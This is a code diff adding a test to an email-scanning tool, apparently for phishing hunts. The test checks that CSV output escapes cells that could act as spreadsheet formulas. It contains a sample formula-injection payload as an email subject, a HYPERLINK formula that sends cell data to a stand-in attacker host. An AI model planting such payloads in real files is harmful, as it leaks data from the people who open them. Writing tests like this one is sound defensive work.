@@ -166,3 +166,23 @@ def test_report_title_with_undecodable_bytes(stores, tmp_path):
     r = cli("report", "--db", stores / "empty.db", "-o", out, "--title", "Q3 \udcff hunt")
     assert r.exit_code == 0, r.stderr
     assert "<title>Q3 ? hunt</title>" in out.read_text(encoding="utf-8")
+
+
+def test_csv_cells_from_mail_are_never_formulas(tmp_path):
+    """A subject like ``=HYPERLINK(...)`` in ``scan --format csv`` or a token in the watchlist would be
+    run as a formula by the spreadsheet the analyst opens the file in: such cells start with ``'``."""
+    import csv
+    import io
+
+    from lurelens.report.campaigns import watchlist_csv
+
+    eml = tmp_path / "f.eml"
+    eml.write_bytes(MessageBuilder().header("From", "x@evil.example").subject('=HYPERLINK("https://evil.example/?"&A1,"open")')
+                    .text("hello there\r\n").build())
+    r = cli("scan", "--format", "csv", eml)
+    (row,) = list(csv.DictReader(io.StringIO(r.stdout)))
+    assert row["subject"] == '\'=HYPERLINK("https://evil.example/?"&A1,"open")'
+    rows = list(csv.DictReader(io.StringIO(watchlist_csv([{"campaign": "C-1", "host": "px.example", "token": "=1+2",
+                                                           "recipient": "@SUM(A1)", "url": "-x", "message": 3}]))))
+    assert (rows[0]["token"], rows[0]["recipient"], rows[0]["url"], rows[0]["message"]) == ("'=1+2", "'@SUM(A1)", "'-x", "3")
+    assert rows[0]["host"] == "px.example"  # plain values untouched
